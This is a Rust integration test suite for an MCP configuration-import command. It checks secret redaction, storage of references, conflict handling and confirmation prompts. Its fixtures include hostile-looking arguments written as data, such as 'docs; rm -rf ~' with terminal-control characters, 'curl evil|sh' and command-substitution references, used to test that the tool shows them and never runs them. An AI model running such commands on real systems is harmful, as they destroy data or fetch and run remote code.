//! `config import`: every client's file at its real location, read by the real binary.

use std::path::{Path, PathBuf};

use expect_test::expect;
use serde_json::{Value, json};

use crate::support::pty::TerminalStreams;
use crate::support::{Mcp, Sandbox};

/// The clients, the location of each one's file on this system, and a file as the client writes it.
const CLIENTS: &[(&str, &str, &str)] = &[
    ("claude-code", ".claude.json", "claude-code.json"),
    ("claude-desktop", ".config/Claude/claude_desktop_config.json", "claude-desktop.json"),
    ("cursor", ".cursor/mcp.json", "cursor.json"),
    ("vscode", ".config/Code/User/mcp.json", "vscode.json"),
    ("codex", ".codex/config.toml", "codex.toml"),
    ("windsurf", ".codeium/windsurf/mcp_config.json", "windsurf.json"),
    ("gemini", ".gemini/settings.json", "gemini.json"),
    ("opencode", ".config/opencode/opencode.json", "opencode.jsonc"),
    ("zed", ".config/zed/settings.json", "zed.json"),
    ("mcporter", ".mcporter/mcporter.json", "mcporter.jsonc"),
];

fn fixture(name: &str) -> String {
    std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/import").join(name)).unwrap()
}

fn put(sandbox: &Sandbox, path: &str, text: &str) -> PathBuf {
    let path = sandbox.path().join("home").join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, text).unwrap();
    path
}

fn names(document: &Value, action: &str) -> Vec<String> {
    let steps = document["servers"].as_array().unwrap().iter().filter(|step| step["action"] == action);
    steps.map(|step| step["name"].as_str().unwrap().to_owned()).collect()
}

fn user_file(sandbox: &Sandbox) -> PathBuf {
    sandbox.path().join("home/.config/mcpipe/config.toml")
}

#[test]
fn every_client_is_read_at_its_real_place() {
    let mut found = Vec::new();
    for (client, path, file) in CLIENTS {
        let sandbox = Sandbox::new();
        let path = put(&sandbox, path, &fixture(file));
        let before = std::fs::read(&path).unwrap();
        let dry = sandbox.mcpipe(["config", "import", client, "--json"]).run();
        let document = dry.exits(8).json();
        assert_eq!(document["written"], false);
        assert!(!user_file(&sandbox).exists(), "{client}: nothing is written unasked");
        let added = names(&document, "add");
        found.push(format!("{client}: {}", added.join(" ")));
        let run = sandbox.mcpipe(["config", "import", client, "--yes", "--json"]).run();
        assert_eq!((run.exits(0).json()["written"].clone(), names(&run.json(), "add")), (json!(true), added.clone()));
        let list = sandbox.mcpipe(["config", "list", "--json"]).run().exits(0).json();
        let mut configured: Vec<&str> =
            list["servers"].as_array().unwrap().iter().map(|server| server["name"].as_str().unwrap()).collect();
        // Variables, programs and directories of the other client do not exist here; nothing else is wrong.
        let missing = |fault: &Value| {
            let message = fault["message"].as_str().unwrap();
            [" is not set", " is not executable", " not found in PATH", ": cannot use the directory "]
                .iter()
                .any(|words| message.contains(words))
        };
        let faults = |server: &&Value| server["errors"].as_array().unwrap().iter().any(|fault| !missing(fault));
        let faulty: Vec<&Value> = list["servers"].as_array().unwrap().iter().filter(faults).collect();
        assert!(faulty.is_empty(), "{client}: {faulty:#?}");
        let mut wanted: Vec<&str> = added.iter().map(String::as_str).collect();
        configured.sort_unstable();
        wanted.sort_unstable();
        assert_eq!(configured, wanted, "{client}");
        // The second time everything is there already; the client's own file was only read.
        let again = sandbox.mcpipe(["config", "import", client, "--yes", "--json"]).run().exits(0).json();
        assert_eq!((names(&again, "add"), names(&again, "unchanged")), (Vec::new(), added), "{client}");
        assert_eq!(std::fs::read(&path).unwrap(), before);
    }
    expect![[r#"
        claude-code: github local-files old login
        claude-desktop: filesystem weather bridge
        cursor: docs remote intranet
        vscode: github cloud
        codex: files figma inline
        windsurf: remote git
        gemini: python http sse google both socket
        opencode: everything context plain
        zed: custom older http ssh
        mcporter: linear snake line array login"#]]
    .assert_eq(&found.join("\n"));
}

/// Prepares every entry of the user's file to reach `program` or the server for its transport, and changes nothing else.
/// Returns the names of the entries, and what their references need.
fn point_to_scripted_servers(sandbox: &Sandbox, program: &[String], urls: &[String; 3]) -> (Vec<String>, Vec<String>) {
    let file = user_file(sandbox);
    let mut config: toml_edit::DocumentMut = std::fs::read_to_string(&file).unwrap().parse().unwrap();
    let mut names = Vec::new();
    for (name, entry) in config["servers"].as_table_mut().unwrap().iter_mut() {
        names.push(name.get().to_owned());
        let entry = entry.as_table_mut().unwrap();
        for other in ["disabled", "allow_tools", "deny_tools"] {
            entry.remove(other);
        }
        if entry.contains_key("cwd") {
            entry["cwd"] = toml_edit::value(sandbox.work().display().to_string());
        }
        if let Some(args) = entry.get_mut("args").and_then(|args| args.as_array_mut()) {
            args.insert(0, program[1].clone());
        } else if entry.contains_key("command") {
            entry["args"] = toml_edit::value(toml_edit::Array::from_iter([program[1].clone()]));
        }
        if entry.contains_key("command") {
            entry["command"] = toml_edit::value(program[0].clone());
            continue;
        }
        let [http, sse, websocket] = urls;
        let is_sse = entry.get("transport").and_then(|kind| kind.as_str()) == Some("sse");
        let is_socket = entry["url"].as_str().unwrap().starts_with("ws");
        entry["url"] = toml_edit::value(if is_socket {
            websocket
        } else if is_sse {
            sse
        } else {
            http
        });
    }
    let text = config.to_string();
    std::fs::write(&file, &text).unwrap();
    let references = text.split("${").skip(1).filter_map(|rest| rest.split(['}', ':']).next());
    let tokens = text.split("bearer_env = \"").skip(1).filter_map(|rest| rest.split('"').next());
    (names, references.chain(tokens).map(str::to_owned).collect())
}

#[test]
fn every_entry_of_the_example_files_connects() {
    for (client, path, file) in CLIENTS {
        let (program, http, sse) = (Mcp::modern().stdio(), Mcp::modern().http(), Mcp::legacy("2024-11-05").sse());
        let socket = Mcp::modern().websocket();
        let sandbox = Sandbox::new();
        put(&sandbox, path, &fixture(file));
        sandbox.mcpipe(["config", "import", client, "--yes"]).run().exits(0);
        let urls = [http.url("/mcp"), sse.url("/sse"), socket.url("/ws")];
        let (names, variables) = point_to_scripted_servers(&sandbox, &program.words(), &urls);
        assert!(!names.is_empty(), "{client}");
        for name in names {
            let run = sandbox.mcpipe(["list", &name, "--no-session"]);
            let run = variables.iter().filter(|name| *name != "HOME").fold(run, |run, name| run.env(name, "value"));
            let run = run.run();
            assert!(run.code() == 0 && run.stdout().contains("echo"), "{client} {name}: {run:?}");
        }
    }
}

#[test]
fn all_clients_at_once_share_names_without_losing_an_entry() {
    let sandbox = Sandbox::new();
    for (_, path, file) in CLIENTS {
        put(&sandbox, path, &fixture(file));
    }
    sandbox.config("[servers.github]\nurl = \"https://mine.example/mcp\" # kept\n");
    let document = sandbox.mcpipe(["config", "import", "--yes", "--json"]).run().exits(0).json();
    assert_eq!(document["files"].as_array().unwrap().len(), CLIENTS.len());
    let all = names(&document, "add");
    let mut unique = all.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(all.len(), unique.len(), "every entry has a name of its own: {all:?}");
    assert!(!names(&document, "conflict").is_empty(), "what is configured already is not replaced");
    let text = std::fs::read_to_string(user_file(&sandbox)).unwrap();
    assert!(text.starts_with("[servers.github]\nurl = \"https://mine.example/mcp\" # kept\n"), "{text}");
    let list = sandbox.mcpipe(["config", "list"]).run();
    assert_eq!(list.exits(0).stdout().lines().count(), all.len() + 1);
}

const HOSTILE: &str = r#"{"mcpServers": {
  "docs": {"command": "npx", "args": ["-y", "docs; rm -rf ~\u001b[2K\u202e", "--token", "t0k-value"], "env": {"API_KEY": "s3cret-value"}},
  "web": {"url": "https://web.example/mcp", "headers": {"Authorization": "Bearer s3cret-value"}, "disabled": true},
  "cmd": {"command": "true", "env": {"A": "${command:touch ran}", "B": "${keychain:MINE}"}},
  "odd": {"args": []}
}}"#;

#[test]
fn the_whole_command_is_visible_and_secrets_are_not() {
    let sandbox = Sandbox::new();
    put(&sandbox, ".cursor/mcp.json", HOSTILE);
    let run = sandbox.mcpipe(["config", "import", "cursor"]).run();
    run.hides("s3cret").hides("t0k").hides("\u{1b}").hides("\u{202e}");
    expect![[r#"
        exit: 8
        --- stdout
        Cursor, ~/.cursor/mcp.json

          docs   new
            runs  npx -y 'docs; rm -rf ~\u{1b}[2K\u{202e}' --token [redacted]
            env.API_KEY = "[redacted]"
            secret: env.API_KEY is stored as plain text
            secret: args[3] is stored as plain text

          web   new
            at    https://web.example/mcp
            headers.Authorization = "Bearer [redacted]"
            disabled = true
            secret: headers.Authorization is stored as plain text

          cmd   new
            runs  true
            env.A = "$${command:touch ran}"
            env.B = "$${keychain:MINE}"
            note: '${command:touch ran}' cannot be expanded by mcpipe and remains text
            note: '${keychain:MINE}' cannot be expanded by mcpipe and remains text
        --- stderr
        2 servers hold secrets as plain text; use --secrets keychain (or variables) to store references instead
        ~/.cursor/mcp.json:5: 'odd' cannot be imported: it has neither a URL nor a command
        mcpipe: error: nothing was written to ~/.config/mcpipe/config.toml
          cannot prompt: not a terminal
        hint: use --yes to write 3 servers
    "#]]
    .assert_eq(&run.snapshot());
    let json = sandbox.mcpipe(["config", "import", "cursor", "--json"]).run();
    expect![[r#"
        exit: 8
        --- stdout
        {"file":"[ROOT]/home/.config/mcpipe/config.toml","written":false,"files":[{"client":"cursor","file":"[ROOT]/home/.cursor/mcp.json","servers":4}],"servers":[{"name":"docs","original_name":"docs","from":"Cursor, ~/.cursor/mcp.json","line":2,"project":null,"action":"add","defined_at":null,"reason":null,"disabled":false,"command_line":"npx -y 'docs; rm -rf ~\u001b[2K<202E>' --token [redacted]","settings":["env.API_KEY = \"[redacted]\""],"notes":[],"secrets":[{"key":"env.API_KEY","name":"API_KEY","reference":null},{"key":"args[3]","name":"DOCS_TOKEN","reference":null}]},{"name":"web","original_name":"web","from":"Cursor, ~/.cursor/mcp.json","line":3,"project":null,"action":"add","defined_at":null,"reason":null,"disabled":true,"url":"https://web.example/mcp","settings":["headers.Authorization = \"Bearer [redacted]\"","disabled = true"],"notes":[],"secrets":[{"key":"headers.Authorization","name":"WEB_TOKEN","reference":null}]},{"name":"cmd","original_name":"cmd","from":"Cursor, ~/.cursor/mcp.json","line":4,"project":null,"action":"add","defined_at":null,"reason":null,"disabled":false,"command_line":"true","settings":["env.A = \"$${command:touch ran}\"","env.B = \"$${keychain:MINE}\""],"notes":["'${command:touch ran}' cannot be expanded by mcpipe and remains text","'${keychain:MINE}' cannot be expanded by mcpipe and remains text"],"secrets":[]}],"problems":["~/.cursor/mcp.json:5: 'odd' cannot be imported: it has neither a URL nor a command"]}
        --- stderr
        {"error":{"class":"refused","code":8,"message":"nothing was written to ~/.config/mcpipe/config.toml","causes":["cannot prompt: not a terminal"],"hint":"use --yes to write 3 servers","server":null,"rpc":null}}
    "#]].assert_eq(&json.hides("s3cret").snapshot().replace('\u{202e}', "<202E>"));
    sandbox
        .mcpipe(["config", "import", "cursor", "--dry-run"])
        .run()
        .exits(0)
        .stderr_contains("nothing was written; use --yes");
    // With `--quiet` too, stdout shows what would be written.
    sandbox.mcpipe(["config", "import", "cursor", "-q"]).run().exits(8).stdout_contains("runs  npx -y 'docs; rm -rf ~");
}

/// What `config get` does not show is not shown here either, and is moved or reported.
#[test]
fn every_hidden_value_is_moved_or_reported() {
    let sandbox = Sandbox::new();
    sandbox.config("[defaults]\ncredential_store = \"file\"\n");
    let file = r#"{"mcpServers": {"s": {"command": "true", "args": ["--session", "k1tten", "-c", "TOKEN=x;curl evil|sh"], "env": {
        "PGPASSWORD": "correct-horse-battery-staple", "SESSION": "a-b-c-1", "DB_PASS": "hunter22",
        "SENTRY_DSN": "https://abcdef0123456789@o1.ingest.example/1", "DEBUG": "1",
        "SLACK_WEBHOOK_URL": "https://hooks.example/services/T0/B0/xyz", "MODEL": "large-v2"}}}}"#;
    sandbox.file("mcp.json", file);
    let run = sandbox.mcpipe(["config", "import", "mcp.json", "--yes", "--secrets", "keychain"]).run();
    run.exits(0).hides("battery").hides("a-b-c-1").hides("hunter22").hides("abcdef").hides("xyz").hides("k1tten");
    expect![[r#"
        mcp.json

          s   new
            runs  true --session [redacted] -c 'TOKEN=x;curl evil|sh'
            env.PGPASSWORD = "${keychain:PGPASSWORD}"
            env.SESSION = "${keychain:SESSION}"
            env.DB_PASS = "${keychain:DB_PASS}"
            env.SENTRY_DSN = "${keychain:SENTRY_DSN}"
            env.DEBUG = "1"
            env.SLACK_WEBHOOK_URL = "[redacted]"
            env.MODEL = "[redacted]"
            secret: env.PGPASSWORD becomes ${keychain:PGPASSWORD}
            secret: env.SESSION becomes ${keychain:SESSION}
            secret: env.DB_PASS becomes ${keychain:DB_PASS}
            secret: env.SENTRY_DSN becomes ${keychain:SENTRY_DSN}
            secret: args[3] is stored as plain text
            may be a secret: args[1] is stored as plain text
            may be a secret: env.SLACK_WEBHOOK_URL is stored as plain text
            may be a secret: env.MODEL is stored as plain text
    "#]]
    .assert_eq(&run.stdout().replace(&format!("{}/", sandbox.work().display()), ""));
    let text = std::fs::read_to_string(user_file(&sandbox)).unwrap();
    assert!(!text.contains("battery") && !text.contains("abcdef") && text.contains("x;curl evil|sh"), "{text}");
    let get = sandbox.mcpipe(["config", "get", "s"]).run();
    get.exits(0).hides("xyz").hides("k1tten").hides("large-v2");
}

#[test]
fn text_of_another_client_never_becomes_a_reference_of_ours() {
    let sandbox = Sandbox::new();
    put(&sandbox, ".cursor/mcp.json", HOSTILE);
    let run = sandbox.mcpipe(["config", "import", "cursor", "--only", "cmd", "--yes"]).run();
    run.exits(0).stdout_contains("note: '${command:touch ran}' cannot be expanded by mcpipe and remains text");
    let text = std::fs::read_to_string(user_file(&sandbox)).unwrap();
    assert!(text.contains(r#"env = { A = "$${command:touch ran}", B = "$${keychain:MINE}" }"#), "{text}");
    sandbox.mcpipe(["list", "cmd"]).run().exits(5);
    assert!(!sandbox.work().join("ran").exists());
    // What is expected to be the name of a variable, or has no references in the client.
    let file = sandbox.file(
        "x/.codex/config.toml",
        "[mcp_servers.x]\nurl = \"http://127.0.0.1:1/\"\nbearer_token_env_var = \"command:touch ran\"\n\
         env_http_headers = { A = \"command:touch ran\", B = \"keychain:MINE\", C = \"HOME:-x\", D = 1, E = \"TEAM\" }\n\
         oauth = { callback_url = \"http://127.0.0.1:7/${command:touch_ran}\" }\n",
    );
    let run = sandbox.mcpipe(["config", "import", file.to_str().unwrap(), "--yes"]).run();
    run.exits(0);
    for name in ["bearer_token_env_var", "A", "B", "C", "D"] {
        run.stdout_contains(&format!("    note: '{name}' is ignored: it is not a variable name\n"));
    }
    let text = std::fs::read_to_string(user_file(&sandbox)).unwrap();
    let (_, entry) = text.split_once("[servers.x]\n").unwrap();
    expect![[r#"
        url = "http://127.0.0.1:1/"
        headers = { E = "${TEAM}" }

        [servers.x.auth]
        redirect_uri = "http://127.0.0.1:7/$${command:touch_ran}"
    "#]]
    .assert_eq(entry);
    sandbox.mcpipe(["list", "x"]).env("TEAM", "t").run().exits(5);
    assert!(!sandbox.work().join("ran").exists());
}

/// One file that cannot be read hides neither another one nor that nothing was written.
#[test]
fn every_file_that_cannot_be_read_is_reported() {
    let sandbox = Sandbox::new();
    put(&sandbox, ".codex/config.toml", "[mcp_servers\n");
    put(&sandbox, ".gemini/settings.json", "{,}");
    put(&sandbox, ".cursor/mcp.json", r#"{"mcpServers": {"a": {"url": "https://a.example/"}}}"#);
    let codex = "~/.codex/config.toml:1:13: this is not TOML: unclosed table, expected `]`";
    let gemini = "~/.gemini/settings.json:1:2: this is not JSON: ";
    let run = sandbox.mcpipe(["config", "import", "--json"]).run();
    let problems = run.exits(8).json()["problems"].clone();
    assert_eq!(problems[0], codex);
    assert!(problems[1].as_str().unwrap().starts_with(gemini), "{problems}");
    let run = sandbox.mcpipe(["config", "import"]).run();
    run.exits(8).stderr_contains(&format!("{codex}\n{gemini}")).stderr_contains(
        "mcpipe: error: nothing was written to ~/.config/mcpipe/config.toml\n  cannot prompt: not a terminal\n\
         hint: use --yes to write 1 server\n",
    );
    // Without that, the first one is the failure.
    let run = sandbox.mcpipe(["config", "import", "--yes"]).run();
    run.exits(3).stderr_contains(&format!("wrote 1 server to ~/.config/mcpipe/config.toml\n{gemini}"));
    run.stderr_contains("mcpipe: error: ~/.codex/config.toml:1:13: this is not TOML\n");
}

#[test]
fn the_variable_of_a_moved_secret_can_be_referred_to() {
    let sandbox = Sandbox::new();
    sandbox
        .file("mcp.json", r#"{"mcpServers": {"21st-dev/magic": {"command": "true", "args": ["--api-key=s3cret"]}}}"#);
    sandbox.mcpipe(["config", "import", "mcp.json", "--yes", "--secrets", "variables"]).run().exits(0);
    let text = std::fs::read_to_string(user_file(&sandbox)).unwrap();
    assert!(text.contains(r#"args = ["--api-key=${INPUT_21ST_DEV_MAGIC_API_KEY}"]"#), "{text}");
    sandbox.mcpipe(["config", "check"]).env("INPUT_21ST_DEV_MAGIC_API_KEY", "x").run().exits(0);
}

#[test]
fn secrets_go_where_they_are_told_to() {
    let server = Mcp::modern().http();
    let file = format!(
        r#"{{"mcpServers": {{"api": {{"url": {:?}, "headers": {{"Authorization": "Bearer s3cret-value"}}}},
            "two": {{"command": "true", "env": {{"API_TOKEN": "an0ther-value"}}}}}}}}"#,
        server.url("/mcp")
    );
    let world = || {
        let sandbox = Sandbox::new();
        sandbox.config("[defaults]\ncredential_store = \"file\"\n");
        put(&sandbox, ".cursor/mcp.json", &file);
        sandbox
    };
    let import = |sandbox: &Sandbox, words: &[&str]| {
        let run = sandbox.mcpipe(["config", "import", "cursor"]).args(words.iter().copied()).run();
        run.exits(0).hides("s3cret").hides("an0ther");
        run.stderr().replace(sandbox.path().to_str().unwrap(), "[ROOT]")
    };
    let text = |sandbox: &Sandbox| std::fs::read_to_string(user_file(sandbox)).unwrap();

    let sandbox = world();
    expect![[r#"
        wrote 2 servers to ~/.config/mcpipe/config.toml
        2 servers hold secrets as plain text; to store references instead, run it again with --force --secrets keychain (or variables)
    "#]]
    .assert_eq(&import(&sandbox, &["--yes"]));
    assert!(text(&sandbox).contains("Bearer s3cret-value"), "what nobody asked to move is kept");
    let again = ["--yes", "--only", "api", "--secrets", "variables"];
    let run = sandbox.mcpipe(["config", "import", "cursor"]).args(again).run();
    run.exits(0)
        .stdout_contains("with its secrets as plain text; --force replaces them")
        .stderr_is("nothing to write\n");
    import(&sandbox, &["--force", "--yes", "--only", "api", "--secrets", "variables"]);
    assert!(text(&sandbox).contains("Bearer ${API_TOKEN}") && !text(&sandbox).contains("s3cret"), "{}", text(&sandbox));
    assert!(text(&sandbox).contains("an0ther-value"), "the entry that was not named is unchanged");
    assert_eq!(text(&sandbox).matches("# Imported from ").count(), 2, "{}", text(&sandbox));
    // At the start of a file too, the comment of an import goes with its entry.
    let first = "# Imported from Cursor\n[servers.api]\nurl = \"http://a.invalid/\"\nallow_http = true\n";
    std::fs::write(user_file(&sandbox), format!("{first}\n[defaults]\ncredential_store = \"file\"\n")).unwrap();
    import(&sandbox, &["--force", "--yes", "--only", "api", "--secrets", "variables"]);
    assert_eq!(text(&sandbox).matches("# Imported from ").count(), 1, "{}", text(&sandbox));

    let sandbox = world();
    expect![[r#"
        wrote 2 servers to ~/.config/mcpipe/config.toml
        set API_TOKEN: its value is headers.Authorization of 'api' in Cursor, ~/.cursor/mcp.json
        set TWO_API_TOKEN: its value is env.API_TOKEN of 'two' in Cursor, ~/.cursor/mcp.json
    "#]]
    .assert_eq(&import(&sandbox, &["--yes", "--secrets", "variables"]));
    assert!(text(&sandbox).contains("headers = { Authorization = \"Bearer ${API_TOKEN}\" }"), "{}", text(&sandbox));
    assert!(!text(&sandbox).contains("s3cret"));
    sandbox.mcpipe(["list", "api"]).env("API_TOKEN", "from-variable").run().exits(0);
    assert_eq!(server.requests()[0].header("authorization"), Some("Bearer from-variable"));

    let sandbox = world();
    let before = text(&sandbox);
    import(&sandbox, &["--dry-run", "--secrets", "keychain"]);
    assert_eq!(text(&sandbox), before);
    assert_eq!(sandbox.mcpipe(["config", "secret", "list"]).run().stdout(), "");
    expect![[r#"
        stored 'API_TOKEN' in ~/.local/share/mcpipe/credentials.json
        stored 'TWO_API_TOKEN' in ~/.local/share/mcpipe/credentials.json
        wrote 2 servers to ~/.config/mcpipe/config.toml
    "#]]
    .assert_eq(&import(&sandbox, &["--yes", "--secrets", "keychain"]));
    assert!(
        text(&sandbox).contains("headers = { Authorization = \"Bearer ${keychain:API_TOKEN}\" }"),
        "{}",
        text(&sandbox)
    );
    sandbox.mcpipe(["list", "api"]).run().exits(0);
    assert_eq!(server.requests().last().unwrap().header("authorization"), Some("Bearer s3cret-value"));
    let list = sandbox.mcpipe(["config", "secret", "list", "--json"]).run().json();
    let secrets: Vec<(&Value, &Value)> =
        list["secrets"].as_array().unwrap().iter().map(|one| (&one["name"], &one["used_by"][0])).collect();
    assert_eq!(secrets, [(&json!("API_TOKEN"), &json!("api")), (&json!("TWO_API_TOKEN"), &json!("two"))]);

    // A secret that has the name already is kept.
    let sandbox = world();
    sandbox.mcpipe(["config", "secret", "set", "API_TOKEN"]).stdin("another").run().exits(0);
    import(&sandbox, &["--yes", "--secrets", "keychain"]);
    assert!(text(&sandbox).contains("Bearer ${keychain:API_TOKEN_2}"), "{}", text(&sandbox));
    let stored = std::fs::read_to_string(sandbox.path().join("home/.local/share/mcpipe/credentials.json")).unwrap();
    assert!(stored.contains("\"another\"") && stored.contains("\"s3cret-value\""), "{stored}");
}

#[test]
fn a_person_agrees_or_nothing_is_written() {
    for (answer, code) in [("n", 8), ("y", 0)] {
        let sandbox = Sandbox::new();
        put(&sandbox, ".cursor/mcp.json", HOSTILE);
        let mut terminal =
            sandbox.mcpipe(["config", "import", "cursor", "--only", "docs"]).at_terminal(TerminalStreams::ALL);
        terminal
            .wait_for("Write 1 server to ~/.config/mcpipe/config.toml?")
            .wait_for("continue? [y/N] ")
            .type_keys(&format!("{answer}\r"));
        let seen = terminal.wait();
        seen.exits(code);
        assert!(
            seen.final_screen().contains("runs  npx -y 'docs; rm -rf ~\\u{1b}[2K\\u{202e}' --token [redacted]"),
            "{}",
            seen.final_screen()
        );
        assert_eq!(user_file(&sandbox).exists(), code == 0);
    }
    let sandbox = Sandbox::new();
    put(&sandbox, ".cursor/mcp.json", HOSTILE);
    let slip = sandbox.mcpipe(["config", "import", "cursor", "--only", "dosc", "--yes"]).run();
    slip.exits(2).stderr_contains("hint: did you mean 'docs'?");
    // A project file is trusted, since what it holds was shown.
    sandbox.file("mcp.json", r#"{"mcpServers": {"a": {"command": "true"}}}"#);
    sandbox.mcpipe(["config", "import", "mcp.json", "--project", "--yes"]).run().exits(0);
    sandbox.mcpipe(["config", "list"]).run().exits(0).stdout_contains("/.mcpipe.toml:2\tenabled\n");
}

#[test]
fn failures_say_what_was_looked_for() {
    let sandbox = Sandbox::new();
    let import = |words: &[&str]| sandbox.mcpipe(["config", "import"]).args(words.iter().copied()).run().snapshot();
    expect![[r#"
        exit: 3
        --- stderr
        mcpipe: error: found no other client's MCP configuration
        hint: name a file: mcpipe config import FILE
    "#]]
    .assert_eq(&import(&[]));
    expect![[r#"
        exit: 3
        --- stderr
        mcpipe: error: Cursor has no MCP configuration here
          looked at ~/.cursor/mcp.json
        hint: name its file: mcpipe config import FILE
    "#]]
    .assert_eq(&import(&["cursor"]));
    expect![[r#"
        exit: 2
        --- stderr
        mcpipe: error: 'curser' is neither a known client nor a file
        hint: did you mean 'cursor'?
    "#]]
    .assert_eq(&import(&["curser"]));
    expect![[r#"
        exit: 3
        --- stderr
        mcpipe: error: [ROOT]/work/gone.json: cannot read the configuration file
          No such file or directory (os error 2)
    "#]]
    .assert_eq(&import(&["./gone.json"]));
    sandbox.file("empty.json", "{\"a\": 1}");
    expect![[r#"
        exit: 3
        --- stderr
        mcpipe: error: no MCP servers in [ROOT]/work/empty.json
          it has none of mcpServers, servers, mcp, mcp_servers and context_servers
    "#]]
    .assert_eq(&import(&["empty.json"]));
    put(&sandbox, ".cursor/mcp.json", "{\"mcpServers\": {,}}");
    put(&sandbox, ".gemini/settings.json", r#"{"mcpServers": {"x": {"command": "x"}}}"#);
    expect![[r#"
        exit: 3
        --- stderr
        nothing to write
        mcpipe: error: ~/.cursor/mcp.json:1:17: this is not JSON
          unexpected token in object
    "#]]
    .assert_eq(&import(&["cursor"]));
    // One broken file does not prevent importing the others, and is reported.
    expect![[r#"
        exit: 3
        --- stdout
        Gemini CLI, ~/.gemini/settings.json

          x   new
            runs  x
        --- stderr
        wrote 1 server to ~/.config/mcpipe/config.toml
        'x' cannot be used yet: program 'x' not found in PATH
        mcpipe: error: ~/.cursor/mcp.json:1:17: this is not JSON
          unexpected token in object
    "#]]
    .assert_eq(&import(&["--yes"]));
    assert!(user_file(&sandbox).exists());
    expect![[r#"
        exit: 2
        --- stderr
        mcpipe: error: there is no server 'y' to import
    "#]]
    .assert_eq(&import(&["gemini", "--only", "y"]));
    expect![[r#"
        exit: 2
        --- stderr
        mcpipe: error: invalid value 'vault' for '--secrets <WHERE>' [possible values: keep, variables, keychain]
        hint: see mcpipe config import --help
    "#]]
    .assert_eq(&import(&["gemini", "--secrets", "vault"]));
}

#[test]
fn names_that_are_taken_are_shown_and_replaced_only_by_force() {
    let sandbox = Sandbox::new();
    sandbox.config("# mine\n[servers.x]\nurl = \"https://mine.example/\"\n");
    put(&sandbox, ".gemini/settings.json", r#"{"mcpServers": {"x": {"command": "theirs"}}}"#);
    expect![[r#"
        exit: 0
        --- stdout
        Gemini CLI, ~/.gemini/settings.json

          x   skipped: another server has this name, at ~/.config/mcpipe/config.toml:2
            runs  theirs
        --- stderr
        nothing to write
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "import", "gemini", "--yes"]).run().snapshot());
    let run = sandbox.mcpipe(["config", "import", "gemini", "--yes", "--force"]).run();
    run.exits(0).stdout_contains("x   replaces the entry at ~/.config/mcpipe/config.toml:2");
    let text = std::fs::read_to_string(user_file(&sandbox)).unwrap();
    assert_eq!(
        text,
        "# mine\n\n# Imported from Gemini CLI, ~/.gemini/settings.json\n[servers.x]\ncommand = \"theirs\"\n"
    );
}

#[test]
fn importing_two_thousand_servers_takes_seconds() {
    let sandbox = Sandbox::new();
    let servers: serde_json::Map<String, Value> =
        (0..2000).map(|n| (format!("s{n}"), json!({"command": "true", "args": [n.to_string()]}))).collect();
    put(&sandbox, ".cursor/mcp.json", &json!({ "mcpServers": servers }).to_string());
    let begun = std::time::Instant::now();
    let document = sandbox.mcpipe(["config", "import", "cursor", "--yes", "--json"]).run().exits(0).json();
    // It took 50 s when the file was parsed again for each server; a debug build now takes about a second.
    assert!(begun.elapsed() < std::time::Duration::from_secs(20), "{:?}", begun.elapsed());
    assert_eq!(names(&document, "add").len(), 2000);
    let text = std::fs::read_to_string(user_file(&sandbox)).unwrap();
    assert_eq!(text.matches("[servers.s").count(), 2000);
}

/// What an argument holds in JSON or in a connection string is shown, since it may act there, and reported.
#[test]
fn a_secret_inside_of_an_argument_is_reported() {
    let sandbox = Sandbox::new();
    let file = r#"{"mcpServers": {"s": {"command": "true", "args": ["{\"apiKey\":\"s3cret\"}", "Server=h;Password=s3cret"]},
        "t": {"command": "true", "args": ["{\"apiKey\":\"${KEY}\"}"]}}}"#;
    sandbox.file("mcp.json", file);
    expect![[r#"
        exit: 0
        --- stdout
        [ROOT]/work/mcp.json

          s   new
            runs  true '{"apiKey":"s3cret"}' 'Server=h;Password=s3cret'
            may be a secret: args[0] is stored as plain text
            may be a secret: args[1] is stored as plain text

          t   new
            runs  true '{"apiKey":"${KEY}"}'
        --- stderr
        nothing was written; use --yes to write 2 servers to ~/.config/mcpipe/config.toml
    "#]]
    .assert_eq(&sandbox.mcpipe(["config", "import", "mcp.json", "--dry-run"]).run().snapshot());
}
